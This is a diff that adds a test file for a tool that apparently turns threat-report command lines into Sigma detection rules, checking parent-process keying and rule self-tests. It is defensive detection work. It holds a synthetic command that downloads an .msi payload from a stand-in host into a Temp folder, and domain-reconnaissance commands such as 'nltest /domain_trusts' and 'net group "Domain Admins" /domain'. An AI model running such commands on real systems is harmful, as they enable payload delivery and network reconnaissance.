@@ -1,0 +1,51 @@
+import { selfTestRule } from '../evaluate/self-test';
+import { generateBuiltinRules } from './builtin-sigma-agent';
+import { knownSpellings } from './technique-match';
+
+// The parent a program was started by, where the article's process tree shows it, goes into the program's rule.
+// Synthetic examples; none comes from an article.
+const article = { title: 'Synthetic intrusion note', url: 'https://notes.example.org/synthetic', date: '2026-11-28' };
+const item = { evidence: { start: 0, end: 1, text: 'x' }, confidence: 0.9 };
+const line = 'cmd /c curl -Lo C:\\Users\\ann\\AppData\\Local\\Temp\\q.msi hxxps://dl.quillmirror[.]example/q.msi';
+
+describe("a program's rule keys the parent the article shows", () => {
+  const drafts = generateBuiltinRules({
+    article,
+    platform: 'windows',
+    cmdlines: [{ ...item, value: line, executable: 'cmd' }],
+    processPairs: [{ ...item, value: 'cmd.exe -> curl.exe', parent: 'cmd.exe', child: 'curl.exe' }],
+  });
+  const curl = drafts.find((draft) => JSON.stringify(draft.rule.detection).includes('\\\\curl.exe'));
+
+  it('writes the parent beside the program and the command line, all required', () => {
+    expect(curl?.rule.detection).toMatchObject({
+      selection_img: [{ 'Image|endswith': '\\curl.exe' }, { OriginalFileName: 'curl.exe' }],
+      selection_parent: { 'ParentImage|endswith': '\\cmd.exe' },
+      condition: 'all of selection_*',
+    });
+    // The switch, the folder, the file type and the scheme, as an engineer keys a download.
+    expect(curl?.rule.detection['selection_cli']).toEqual({
+      'CommandLine|contains|all': ['\\AppData\\Local\\Temp\\', 'dl.quillmirror.example', '-Lo', '.msi', 'http'],
+    });
+  });
+
+  it('still fires on the command line it was written from, and not when another parent starts the program', () => {
+    const rule = curl?.rule as unknown as Record<string, unknown>;
+    expect(selfTestRule(rule, [{ type: 'cmdline', value: line }]).fires).toBe(true);
+    const direct = 'curl -Lo C:\\Users\\ann\\AppData\\Local\\Temp\\q.msi https://dl.quillmirror.example/q.msi';
+    expect(selfTestRule(rule, [{ type: 'cmdline', value: `powershell -c "${direct}"` }]).fires).toBe(false);
+  });
+
+  it('writes no parent where the article shows none', () => {
+    const alone = generateBuiltinRules({ article, platform: 'windows', cmdlines: [{ ...item, value: line, executable: 'cmd' }] });
+    expect(JSON.stringify(alone.map((draft) => draft.rule.detection))).not.toContain('ParentImage');
+  });
+
+  it("backs a program's OriginalFileName by the program the text names, for the fidelity check", () => {
+    expect(knownSpellings('nltest /domain_trusts')).toContain('nltestrk.exe');
+    expect(knownSpellings('powershell -nop -c whoami')).toContain('pwsh.dll');
+    // A technique's program backs its OriginalFileName: the rule on net.exe keys net1.exe too.
+    expect(knownSpellings('net group "Domain Admins" /domain')).toContain('net1.exe');
+    expect(knownSpellings('the quill sync client')).not.toContain('nltestrk.exe');
+  });
+});
